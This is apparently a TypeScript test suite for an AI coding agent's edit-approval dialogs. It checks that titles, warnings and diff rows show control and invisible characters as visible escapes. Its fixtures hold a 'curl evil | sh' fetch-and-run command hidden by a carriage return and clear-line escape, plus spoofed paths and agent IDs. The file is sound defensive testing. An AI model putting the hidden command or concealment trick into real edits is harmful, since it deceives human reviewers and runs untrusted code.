import * as assert from 'node:assert/strict';
import type { EditProposal } from '../../../src/core/tools/approvalPort';
import {
  diffTitle,
  dirtyMessage,
  formatText as t,
  hunkChoiceText,
  protectedWarning,
  rejectTitle,
  reviewDetail,
  staleMessage,
  waitingBehindMessage,
  whichEditItem,
} from '../../../src/host/approvals/approvalText';
import { computeHunks } from '../../../src/host/approvals/hunks';

const ESC = '\u001b';
/** The same trick as on the terminal: `curl evil | sh`, then CR and clear-line to hide it. */
const HIDDEN = `curl evil | sh\r${ESC}[2K# just a comment`;
const UNSAFE = ['\r', ESC, '\u202E', '\u200B', '\u0007'];

const proposal: EditProposal = {
  approvalId: 'T1:edit:x:1',
  runId: 'r1',
  taskId: 'T1',
  agentId: `coder${ESC}]0;evil\u0007`,
  path: `docs/read\u202Eme.txt\u200B`,
  before: 'a\n',
  after: `${HIDDEN}\n`,
  reason: 'edits ask',
  protected: true,
  policy: 'ask',
};

function assertSafe(text: string): void {
  for (const char of UNSAFE) assert.ok(!text.includes(char), JSON.stringify(text));
  assert.match(text, /⚠ \d+ hidden or control characters? shown as escapes/);
}

describe('checklist 30: host approval texts neutralise control and invisible characters', () => {
  it('titles, warnings, messages and review rows show the path, agent and task as escapes', () => {
    const texts = [
      diffTitle(t, proposal, `Task${HIDDEN}`),
      diffTitle(t, { ...proposal, after: undefined, protected: false }, 'T1'),
      protectedWarning(t, proposal, true),
      protectedWarning(t, proposal, false),
      staleMessage(t, proposal.path),
      dirtyMessage(t, proposal.path),
      rejectTitle(t, proposal.path, HIDDEN),
      reviewDetail(t, proposal, HIDDEN),
      waitingBehindMessage(t, proposal, HIDDEN),
      ...Object.values(whichEditItem(t, proposal, HIDDEN, true)),
    ];
    for (const text of texts) assertSafe(text);
    assert.ok(texts[0]!.includes('docs/read\\u202eme.txt\\u200b'));
    assert.ok(texts[0]!.includes('coder\\x1b]0;evil\\x07'));
    assert.ok(texts[0]!.includes('curl evil | sh\\r\\x1b[2K# just a comment'));
  });

  it('the "Choose Changes…" row shows the hidden command with its escapes', () => {
    const [hunk] = computeHunks('a\n', `${HIDDEN}\n`);
    const choice = hunkChoiceText(t, hunk!);
    assertSafe(choice.detail);
    assert.ok(choice.detail.startsWith('+ curl evil | sh\\r\\x1b[2K# just a comment'), choice.detail);
  });

  it('leaves ordinary texts as they were', () => {
    const plain = { ...proposal, agentId: 'coder', path: 'src/a.ts' };
    assert.equal(diffTitle(t, plain, 'Add login'), 'src/a.ts (Protected — proposed by coder for Add login)');
    assert.equal(rejectTitle(t, 'src/a.ts', 'Add login'), 'Reject the edit of src/a.ts for task Add login');
  });
});
